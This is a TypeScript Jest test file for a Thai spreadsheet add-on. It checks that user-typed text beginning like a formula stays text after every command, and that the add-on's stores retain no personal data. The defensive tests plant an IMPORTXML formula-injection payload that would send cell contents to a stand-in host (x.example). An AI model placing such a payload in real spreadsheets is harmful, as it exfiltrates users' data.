/** What people type stays words: no path makes a formula of it, and the stores of the add-on keep nothing of people. */
import { expect, test } from '@jest/globals';
import { SHEET_IDS, sheetName } from '../../src/model';
import type { AddOn } from '../app/addOn';
import { pastedResult } from '../app/addOn';
import { setting, type } from '../app/cells';
import { ANG_THONG, ANG_THONG_ITEMS } from '../ita/published';
import { CALLS } from './bad/run';
import { addOnOf, copied } from './host';
import { busy } from './workbooks';

const HOSTILE = 'IMPORTXML("http://x.example/"&A1)';

/** Cells of people in every sheet, and what their column is called. */
const CELLS: readonly (readonly [string, number, string])[] = [
  ['คะแนนรายข้อ', 1, 'ข้อเสนอแนะของผู้ประเมิน'],
  ['ผลวิเคราะห์', 2, 'จุดแข็ง'],
  ['ผลวิเคราะห์', 3, 'ข้อเสนอแนะ'],
  ['แผนมาตรการ', 1, 'มาตรการ'],
  ['แผนมาตรการ', 2, 'ขั้นตอน'],
  ['แผนมาตรการ', 3, 'ผู้รับผิดชอบ'],
  ['แผนมาตรการ', 3, 'เหตุผลที่ยอมรับ'],
  ['ติดตามผล', 1, 'ผลการดำเนินการ'],
  ['ติดตามผล', 2, 'ปัญหาและอุปสรรค'],
  ['ผลการตรวจ', 1, 'เหตุผลที่ยอมรับ'],
];

const ENTRY = 'คลังมาตรการ';

const BEGINNINGS = ['=', '=+', "'=", ' =', '\t=', '+', '-', '@'];

/** Plants text (never a formula) wherever people write, each time with another beginning. `turn`: with which it begins. */
function plant(book: AddOn, turn: number): void {
  let at = turn;
  const text = (): string => `${BEGINNINGS[at++ % BEGINNINGS.length]}${HOSTILE}`;
  for (const [tab, row, header] of CELLS) type(book, tab, row, { [header]: text() });
  setting(book, 'ชื่อหน่วยงาน (ชื่อเต็ม)', text());
  type(book, ENTRY, 1, { ชนิด: 'มาตรการ', ใช้กับ: '6', มาตรการ: text(), ขั้นตอน: text() });
}

const formulasOf = (book: AddOn): readonly string[] =>
  book.host.state.spreadsheet.sheets.flatMap(({ name, rows }) =>
    rows.flatMap((line) => line.flatMap((cell) => (cell?.formula?.includes('IMPORTXML(') ? [`${name}: ${cell.formula}`] : []))),
  );

const WRITING = new Set(['runCheck', 'runAnalysis', 'runPlan', 'openRound', 'closeYear', 'startYear', 'setUp', 'keepMeasure']);

const ARGUMENTS: Readonly<Record<string, (text: string) => readonly unknown[]>> = {
  setUp: (text) => [{ name: text, shortName: text, type: text, district: text, province: text, website: text, fiscalYear: 2566 }],
};

const ready = busy();

test.each([0, 1])(
  'text that begins like a formula is text after every command (%i)',
  async (turn) => {
    const text = `${turn === 0 ? '=' : "'="}${HOSTILE}`;
    const book = addOnOf(copied((await ready).host.state));
    plant(book, turn);
    const start = copied(book.host.state);
    const found: string[] = [];
    for (const [call, args] of CALLS) {
      if (!WRITING.has(call)) continue;
      book.host.state = copied(start);
      await book.host.run(call, ARGUMENTS[call]?.(text) ?? args);
      found.push(...formulasOf(book).map((formula) => `${call}: ${formula}`));
    }
    book.host.state = copied(start);
    const [gap] = (await book.get('getPlan')).gaps;
    await book.host.run('acceptGap', [gap?.id, text]);
    const preview = await book.get('readImport', {
      kind: 'text',
      text: `${pastedResult(text, 2566, ANG_THONG, ANG_THONG_ITEMS)}\nข้อเสนอแนะ ข้อ E1\n${text}`,
    });
    const decisions = Object.fromEntries(preview.conflicts.map(({ key }) => [key, 0]));
    await book.host.run('applyImport', [{ ticket: preview.ticket, skip: [], decisions, withMeasures: true }]);
    expect([...found, ...formulasOf(book)]).toEqual([]);
  },
  120_000,
);

test('the stores keep nothing of people: a version and short-lived notes of the one who asked', async () => {
  const person = 'นางสาวทดสอบ ใจดี';
  const book = addOnOf(copied((await ready).host.state));
  for (const [tab, row, header] of CELLS) type(book, tab, row, { [header]: person });
  await book.get('readImport', {
    kind: 'text',
    text: `${pastedResult('องค์การบริหารส่วนจังหวัดพะเยา', 2566, ANG_THONG)}\nผู้ประสานงาน ${person} โทร. 081-234-5678`,
  });
  for (const [call, args] of CALLS) if (WRITING.has(call) && call !== 'startYear') await book.host.run(call, args);
  const { ticket } = await book.get('startReport', { kind: 'summary', layout: '', digits: 'thai', round: 12, without: [], replace: '' });
  await book.ask('continueReport', ticket);
  const { properties, cache } = book.host.state;
  expect(JSON.stringify([properties, cache])).not.toContain(person);
  expect(JSON.stringify([properties, cache])).not.toContain('081-234-5678');
  expect(Object.keys(properties.document)).toEqual(['schema.version']);
  expect([properties.user, properties.script, cache.document, cache.script].map((store) => Object.keys(store))).toEqual([[], [], [], []]);
}, 120_000);

test('every sheet where people write is among those tried', () => {
  const tried = new Set<string>([...CELLS.map(([tab]) => tab), ENTRY, 'ตั้งค่า']);
  // Numbers, levels and what only the add-on writes.
  const none = ['indicators', 'history', 'framework', 'register', 'agencies'];
  expect(SHEET_IDS.filter((id) => !tried.has(sheetName(id)) && !none.includes(id))).toEqual([]);
});
